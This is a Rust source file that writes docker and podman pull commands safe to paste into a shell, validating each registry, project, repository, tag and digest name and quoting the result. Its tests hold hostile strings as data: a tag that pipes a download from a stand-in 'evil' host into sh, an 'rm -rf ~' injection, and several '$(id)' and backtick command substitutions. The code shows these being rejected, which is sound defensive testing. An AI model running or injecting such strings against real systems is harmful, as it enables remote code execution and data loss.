//! `docker pull` and `podman pull` commands for an artifact, safe to paste into a shell: every
//! part must be within the registry's own syntax (host, project and repository names, an OCI
//! tag, a digest), or no command is offered at all, and the words are quoted for a POSIX shell
//! besides. A hostile server's tag like `x;curl evil|sh` never becomes a command.

use crate::contract;

/// The container clients a pull command can be written for.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum PullClient {
    /// `docker pull`.
    Docker,
    /// `podman pull`.
    Podman,
}

impl PullClient {
    /// Both clients, in the order they are offered.
    pub const ALL: [Self; 2] = [Self::Docker, Self::Podman];

    /// The program's name.
    pub fn program(self) -> &'static str {
        match self {
            Self::Docker => "docker",
            Self::Podman => "podman",
        }
    }
}

/// What a pull command names: a tag, or the digest.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum PullReference {
    /// `:TAG`.
    Tag(String),
    /// `@sha256:…`.
    Digest(String),
}

/// Which part of a pull command is outside the registry's syntax.
#[derive(Debug, Clone, Copy, PartialEq, Eq, thiserror::Error)]
pub enum UnsafeName {
    /// The registry address (`host[:port]`).
    #[error("registry address")]
    Host,
    /// The project's name.
    #[error("project name")]
    Project,
    /// The repository's name.
    #[error("repository name")]
    Repository,
    /// The tag.
    #[error("tag")]
    Tag,
    /// The digest.
    #[error("digest")]
    Digest,
}

/// The pull command for `host/project/repository` by tag or digest, or which part is outside
/// the registry's syntax (then no command should be offered).
pub fn pull_command(
    client: PullClient,
    host: &str,
    project: &str,
    repository: &str,
    reference: &PullReference,
) -> Result<String, UnsafeName> {
    check(is_host(host), UnsafeName::Host)?;
    check(contract::project_name(project).is_ok(), UnsafeName::Project)?;
    check(
        contract::repository_name(repository).is_ok(),
        UnsafeName::Repository,
    )?;
    let image = match reference {
        PullReference::Tag(tag) => {
            check(is_tag(tag), UnsafeName::Tag)?;
            format!("{host}/{project}/{repository}:{tag}")
        }
        PullReference::Digest(digest) => {
            check(contract::digest(digest).is_ok(), UnsafeName::Digest)?;
            format!("{host}/{project}/{repository}@{digest}")
        }
    };
    // The parts are checked, so quoting changes nothing today; it stays as a second guard.
    shlex::try_join([client.program(), "pull", image.as_str()]).map_err(|_| UnsafeName::Tag)
}

fn check(ok: bool, part: UnsafeName) -> Result<(), UnsafeName> {
    if ok { Ok(()) } else { Err(part) }
}

/// An OCI tag: `[A-Za-z0-9_][A-Za-z0-9._-]{0,127}`.
fn is_tag(tag: &str) -> bool {
    let mut chars = tag.chars();
    let first_ok = chars
        .next()
        .is_some_and(|c| c.is_ascii_alphanumeric() || c == '_');
    first_ok
        && tag.len() <= 128
        && chars.all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-'))
}

/// A registry address: a host name or IPv4 address, or an IPv6 address in brackets, and an
/// optional port (the form of a profile's registry address).
pub fn is_host(host: &str) -> bool {
    let (name, port) = match host.rsplit_once(':') {
        Some((name, port)) if !name.ends_with(':') && !port.contains(']') => (name, Some(port)),
        _ => (host, None),
    };
    let port_ok =
        port.is_none_or(|p| !p.is_empty() && p.len() <= 5 && p.chars().all(|c| c.is_ascii_digit()));
    let name_ok = if let Some(inner) = name.strip_prefix('[').and_then(|n| n.strip_suffix(']')) {
        !inner.is_empty() && inner.chars().all(|c| c.is_ascii_hexdigit() || c == ':')
    } else {
        !name.is_empty()
            && name.len() <= 253
            && name
                .chars()
                .all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '-'))
            && !name.starts_with(['.', '-'])
    };
    port_ok && name_ok
}

#[cfg(test)]
mod tests {
    use super::*;

    const DIGEST: &str = "sha256:4346ae1f487f6c1652a164518db7c6c9e75939051fc5adc9064380e1c258b596";

    #[test]
    fn pull_commands_name_the_image_by_tag_or_digest() {
        let by_tag = PullReference::Tag("1.36".to_owned());
        let by_digest = PullReference::Digest(DIGEST.to_owned());
        assert_eq!(
            pull_command(
                PullClient::Docker,
                "registry.example.com:8443",
                "library",
                "team/busybox",
                &by_tag
            ),
            Ok("docker pull registry.example.com:8443/library/team/busybox:1.36".to_owned())
        );
        assert_eq!(
            pull_command(PullClient::Podman, "r.io", "p", "r1", &by_digest),
            Ok(format!("podman pull r.io/p/r1@{DIGEST}"))
        );
        assert_eq!(
            pull_command(PullClient::Docker, "[::1]:5000", "p", "r1", &by_tag),
            Ok("docker pull '[::1]:5000/p/r1:1.36'".to_owned()),
            "brackets are quoted for the shell"
        );
    }

    #[test]
    fn a_hostile_name_gets_no_command() {
        let hostile = PullReference::Tag("x;curl evil|sh".to_owned());
        assert_eq!(
            pull_command(PullClient::Docker, "r.io", "p", "r1", &hostile),
            Err(UnsafeName::Tag)
        );
        let tag = PullReference::Tag("1.0".to_owned());
        for (host, project, repository, part) in [
            ("r.io;rm -rf ~", "p", "r1", UnsafeName::Host),
            ("r.io", "p$(id)", "r1", UnsafeName::Project),
            ("r.io", "p", "r1 && id", UnsafeName::Repository),
        ] {
            assert_eq!(
                pull_command(PullClient::Docker, host, project, repository, &tag),
                Err(part),
                "{host} {project} {repository}"
            );
        }
        let digest = PullReference::Digest("sha256:`id`".to_owned());
        assert_eq!(
            pull_command(PullClient::Podman, "r.io", "p", "r1", &digest),
            Err(UnsafeName::Digest)
        );
    }

    #[test]
    fn tags_follow_the_oci_grammar() {
        for good in ["latest", "1.36.1", "v1.0.0-rc.1", "_x", &"a".repeat(128)] {
            assert!(is_tag(good), "{good}");
        }
        for bad in ["", ".x", "-x", "a b", "x;y", "x|y", "x$y", &"a".repeat(129)] {
            assert!(!is_tag(bad), "{bad}");
        }
    }
}
